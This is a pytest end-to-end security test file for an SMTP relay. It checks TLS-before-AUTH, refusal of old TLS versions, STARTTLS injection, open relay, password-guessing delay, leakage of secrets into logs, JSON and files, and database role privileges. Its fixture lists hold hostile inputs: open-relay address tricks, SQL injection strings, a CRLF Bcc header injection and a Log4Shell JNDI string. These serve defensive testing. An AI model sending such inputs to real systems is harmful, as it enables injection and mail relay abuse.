"""Security cases through the real stack: TLS before AUTH, no open relay, no STARTTLS
command injection, slowed password guessing, no secret in logs, JSON or world-readable
files, hostile CLI input stored verbatim or refused."""

from __future__ import annotations

import base64
import json
import smtplib
import socket
import ssl
import stat
import subprocess
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import psycopg
import pytest

from tests.cli.conftest import CliRun, run_main
from tests.harness.fixtures import RelayStack
from tests.harness.processes import TXRELAY, wait_until
from tests.harness.provision import Provisioned
from tests.harness.secret_files import secret_file_paths
from tests.harness.smtp import build_message, smtp_session, submit, tls_context
from txrelay.kek import KeyRing

pytestmark = pytest.mark.e2e
HOST = "127.0.0.1"


@pytest.fixture(scope="module")
def shop(relay: RelayStack) -> Provisioned:
    return relay.provision(rate_limit=0)


class RawSmtp:
    """A line-level SMTP client for what smtplib will not send."""

    def __init__(self, port: int) -> None:
        self.sock: socket.socket | ssl.SSLSocket = socket.create_connection((HOST, port), 30)
        self.buffer = b""
        self.reply()  # greeting

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def reply(self) -> tuple[int, str]:
        lines = []
        while True:
            while b"\r\n" not in self.buffer:
                chunk = self.sock.recv(4096)
                if not chunk:
                    raise ConnectionError("server closed the connection")
                self.buffer += chunk
            line, self.buffer = self.buffer.split(b"\r\n", 1)
            lines.append(line.decode("utf-8", "replace"))
            if len(line) < 4 or line[3:4] != b"-":
                return int(lines[-1][:3]), "\n".join(lines)

    def command(self, line: str) -> tuple[int, str]:
        self.send(line.encode() + b"\r\n")
        return self.reply()

    def starttls(self, context: ssl.SSLContext | None = None) -> None:
        self.sock = (context or tls_context()).wrap_socket(self.sock)

    def close(self) -> None:
        self.sock.close()


def test_auth_before_starttls_is_refused_with_530(relay: RelayStack, shop: Provisioned) -> None:
    client = RawSmtp(relay.port)
    client.command("EHLO attacker.test")
    token = base64.b64encode(f"\0{shop.username}\0{shop.password}".encode()).decode()
    code, text = client.command(f"AUTH PLAIN {token}")
    client.close()
    assert code == 530 and "5.7.0" in text, text


# The client offers the old versions on purpose, to see the relay refuse them.
@pytest.mark.filterwarnings("ignore:ssl.TLSVersion.TLSv1:DeprecationWarning")
def test_tls_below_1_2_is_refused_and_1_2_works(relay: RelayStack) -> None:
    def handshake(maximum: ssl.TLSVersion) -> str:
        context = tls_context()
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = maximum
        context.set_ciphers("DEFAULT:@SECLEVEL=0")
        client = RawSmtp(relay.port)
        client.command("EHLO client.test")
        assert client.command("STARTTLS")[0] == 220
        try:
            client.starttls(context)
            return str(client.sock.version())  # type: ignore[union-attr]
        finally:
            client.close()

    assert handshake(ssl.TLSVersion.TLSv1_2) == "TLSv1.2"
    for old in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1):
        with pytest.raises((ssl.SSLError, ConnectionError, OSError)):
            handshake(old)


def test_commands_pipelined_after_starttls_are_discarded(relay: RelayStack) -> None:
    """CVE-2011-0411 style: plaintext sent with STARTTLS must not run inside TLS."""
    client = RawSmtp(relay.port)
    client.command("EHLO client.test")
    client.send(b"STARTTLS\r\nHELP\r\n")
    code, _ = client.reply()
    assert code == 220
    try:
        client.starttls()
    except (ssl.SSLError, ConnectionError, OSError):
        return  # dropping the session is as safe as discarding the injected command
    code, text = client.command("NOOP")
    client.close()
    assert (code, text.split()[1]) == (250, "2.0.0"), text  # not HELP's 502 first


RELAY_TRICKS = [
    "victim@remote.example",
    "victim%remote.example@relay.txrelay.test",
    "remote.example!victim@relay.txrelay.test",
    "\"victim@remote.example\"@relay.txrelay.test",
    "@relay.txrelay.test:victim@remote.example",
    "@relay.txrelay.test,@other.example:victim@remote.example",
    "victim@[127.0.0.1]",
    "victim@[192.0.2.1]",
    "victim@localhost",
    "victim@relay.txrelay.test",
    "victim@remote.example.",
]


def queued_addresses(relay: RelayStack) -> set[str]:
    found: set[str] = set()
    for message in relay.postfix.queue():
        recipients: Any = message.get("recipients", [])
        found.update(str(r.get("address")) for r in recipients)
    return found


@pytest.mark.parametrize("starttls", [True, False], ids=["tls", "plain"])
def test_no_open_relay_without_auth(relay: RelayStack, shop: Provisioned,
                                    starttls: bool) -> None:
    tag = uuid.uuid4().hex[:8]
    before = queued_addresses(relay)
    for trick in RELAY_TRICKS:  # a session each: Postfix drops one after too many errors
        rcpt = trick.replace("victim", f"victim-{tag}")
        with smtp_session(None, None, port=relay.port, starttls=starttls) as client:
            code, text = client.docmd("MAIL", f"FROM:<{shop.address()}>")
            if code < 300:
                code, text = client.docmd("RCPT", f"TO:<{rcpt}>")
        assert code >= 500, f"{rcpt}: {code} {text!r}"
    relay.postfix.flush()
    assert not [a for a in queued_addresses(relay) - before if tag in a]
    assert not [c for c in relay.sink.captures() if any(tag in r for r in c.rcpt_tos)]


def test_wrong_password_is_slowed_down(relay: RelayStack, shop: Provisioned) -> None:
    """Dovecot's auth_failure_delay answers a failed AUTH late (a guess costs time);
    Postfix's smtpd_client_auth_rate_limit caps AUTH commands per client IP.

    Dovecot flushes delayed failures by its ioloop clock in whole seconds, so the
    default 2 s delay ends anywhere from just over 1 s to about 3 s after the attempt
    (a CI run measured 1.05 s). An immediate answer (no delay configured) takes
    milliseconds, which is what this must tell apart."""
    with smtp_session(None, None, port=relay.port) as client:
        started = time.monotonic()
        with pytest.raises(smtplib.SMTPAuthenticationError):
            client.user, client.password = shop.username, "wrong-" + shop.password
            client.auth("PLAIN", client.auth_plain)
        assert time.monotonic() - started >= 0.9
    service = f"{HOST}:{relay.port}/inet"
    limit = relay.postfix.postconf("-P", f"{service}/smtpd_client_auth_rate_limit")
    assert limit.strip().endswith(f"= {relay.config.limits.client_auth_rate_limit}")


def test_passwords_never_reach_a_log(relay: RelayStack, shop: Provisioned) -> None:
    rcpt = f"logs-{uuid.uuid4().hex[:8]}@rcpt.example.net"
    result = submit(shop.username, shop.password, shop.address(), [rcpt],
                    build_message(shop.address(), [rcpt]), port=relay.port)
    assert result.accepted, result
    wrong = "Wr0ng-" + uuid.uuid4().hex
    with smtp_session(None, None, port=relay.port) as client:
        client.user, client.password = shop.username, wrong
        with pytest.raises(smtplib.SMTPAuthenticationError):
            client.auth("PLAIN", client.auth_plain)
    relay.sink.wait_for_recipient(rcpt)
    logs = [relay.postfix.maillog, Path(relay.config.dovecot.log_path),
            relay.milter.process.log_path, relay.sink.process.log_path]
    for path in logs:
        text = path.read_text(errors="replace") if path.exists() else ""
        for secret in (shop.password, wrong, base64.b64encode(
                f"\0{shop.username}\0{shop.password}".encode()).decode()):
            assert secret not in text, f"a password is in {path}"


def cli(relay: RelayStack, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([TXRELAY, "--config", str(relay.config_file), *args],
                          capture_output=True, text=True, timeout=60, check=False)


def test_json_output_never_contains_a_hash_or_a_key(relay: RelayStack,
                                                    shop: Provisioned) -> None:
    commands = [("connection", "list"), ("connection", "show", shop.connection, "--account",
                                          shop.account),
                ("domain", "list"), ("domain", "dns", shop.domain),
                ("account", "show", shop.account), ("account", "list")]
    with ThreadPoolExecutor(max_workers=len(commands)) as pool:
        outputs = list(pool.map(lambda args: cli(relay, "--json", *args), commands))
    for done in outputs:
        assert done.returncode == 0, done.stderr
        json.loads(done.stdout)
        for marker in ("PRIVATE KEY", "{ARGON2ID}", "$argon2", shop.password, "password_hash",
                       "private_key"):
            assert marker not in done.stdout, (done.args, marker)


HOSTILE = ["x'); DROP TABLE accounts;--", "\" OR 1=1 --", "a\r\nBcc: victim@example.org",
           "tab\there", "nul\x01byte", "%s%n%x", "${jndi:ldap://e.example/a}"]


def test_hostile_cli_arguments_are_stored_verbatim_or_refused(
        relay: RelayStack, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each hostile value in each argument of account create and domain add (in-process,
    through main() as the console script runs it): exit 0 and stored byte for byte, or one
    error line and exit 1 — never a traceback, never a changed value."""

    def txrelay(*args: str) -> CliRun:
        return run_main(["--config", str(relay.config_file), "--json", *args], monkeypatch)

    for value in HOSTILE:
        tag = uuid.uuid4().hex[:6]
        name = f"{value} {tag}"
        created = txrelay("account", "create", name, "--admin-email", f"ops-{tag}@e.example")
        if created.exit_code != 0:
            assert created.error, created
            name = f"plain {tag}"
            assert txrelay("account", "create", name, "--admin-email",
                           f"ops-{tag}@e.example").exit_code == 0
        else:
            assert stored(relay, "SELECT name FROM accounts WHERE name = %s", name) == name
        list_help = f"https://help.example/{value}"
        added = txrelay("domain", "add", name, f"{tag}.example", "--list-help", list_help)
        if added.exit_code == 0:
            assert stored(relay, "SELECT list_help FROM sending_domains WHERE domain = %s",
                          f"{tag}.example") == list_help
        else:
            assert added.error
        for args in (("domain", "add", name, f"{value}.example", "--list-help", "https://h.e/"),
                     ("account", "create", f"e {tag}", "--admin-email", f"{value}@e.example")):
            done = txrelay(*args)
            assert done.exit_code == 0 or done.error, done


def stored(relay: RelayStack, sql: str, key: str) -> object:
    with psycopg.connect(relay.database_url) as conn:
        row = conn.execute(sql, (key,)).fetchone()
    return row[0] if row else None


def secret_files(relay: RelayStack) -> dict[str, Path]:
    """Every file of the running relay that holds a secret: the configuration (database
    passwords), the milter's policy copies (sealed DKIM keys, password hashes), Postfix's TLS
    key, and every file a secret-file setting names that exists (tests/harness/secret_files:
    KEK, SMTP login file, bounce secret, relay DKIM key, web admin token, TLS key). (Dovecot's
    own configuration names those files and holds no secret.)"""
    copies = Path(relay.config.milter.journal_dir).glob("policy-*.json")
    return {"the configuration": relay.config_file, "Postfix's TLS key": relay.postfix.key,
            **{f"the policy copy {p.name}": p for p in copies},
            **{name: path for name, path in secret_file_paths(relay.config).items()
               if path.exists()}}


def test_secret_files_are_not_world_readable(relay: RelayStack, shop: Provisioned) -> None:
    relay.settle_policy()  # the policy copy holds the shop's key by now
    paths = secret_files(relay)
    copies = [p for p in paths.values() if p.name.startswith("policy-")]
    # What this relay has; the relay DKIM key and the web admin token it has not (their modes:
    # tests/cli/test_setup_commands.py, tests/unit/test_web_admin_token.py).
    assert copies and {"[database] kek_file", "[dovecot] passdb_file",
                       "[bounce] secret_file"} <= set(paths), sorted(paths)
    for name, path in paths.items():
        mode = stat.S_IMODE(path.stat().st_mode)
        assert not mode & 0o007, f"{name} {path} is {oct(mode)}: readable by every user"
    # The shop's key (stored by the CLI) is in the copy sealed, as in the database; no line
    # of its PEM is. (Tenants other tests write with SQL keep keys in clear, as an older
    # release stored them: the milter reads both.)
    sealed = stored(relay, "SELECT k.private_key_pem FROM sending_domains d JOIN dkim_keys k "
                           "ON k.id = d.dkim_key_id WHERE d.domain = %s", shop.domain)
    assert isinstance(sealed, str) and sealed.startswith("txrelay-aes256gcm:")
    pem = KeyRing.load(Path(relay.config.database.kek_file)).open(sealed)
    lines = [line for line in pem.splitlines() if line and not line.startswith("-----")]
    # Both of the relay's milters write the copy at their own polls: wait for the last one.
    wait_until(lambda: all(sealed in copy.read_text() for copy in copies), 20,
               "policy copies holding the shop's sealed key")
    for copy in copies:
        text = copy.read_text()
        assert not any(line in text for line in lines), f"{copy} holds the shop's key in clear"


def test_the_milter_relays_as_the_daemons_role_which_may_not_change_accounts(
        relay: RelayStack, shop: Provisioned) -> None:
    """The relay path above ran with [database] milter_url (tests/conftest.py's milter_url,
    granted as txrelay init grants txrelay_milter): the milter's connections are that
    role's, and the role cannot touch an account."""
    role = urlsplit(relay.config.database.milter_url).username
    assert role and role != urlsplit(relay.database_url).username
    with psycopg.connect(relay.database_url, autocommit=True) as conn:
        users = {r[0] for r in conn.execute(
            "SELECT usename FROM pg_stat_activity WHERE datname = current_database()")}
    assert role in users
    with psycopg.connect(relay.config.database.milter_url, autocommit=True) as milter, \
            pytest.raises(psycopg.errors.InsufficientPrivilege,
                          match="permission denied for table accounts"):
        milter.execute("UPDATE accounts SET low_quota_threshold = 0")


def test_postfix_check_passes_on_the_tests_own_postfix(relay: RelayStack) -> None:
    done = cli(relay, "postfix", "check", "--config-directory",
               str(relay.postfix.config_directory), "--listen", f"{HOST}:{relay.port}")
    assert done.returncode == 0, done.stdout + done.stderr
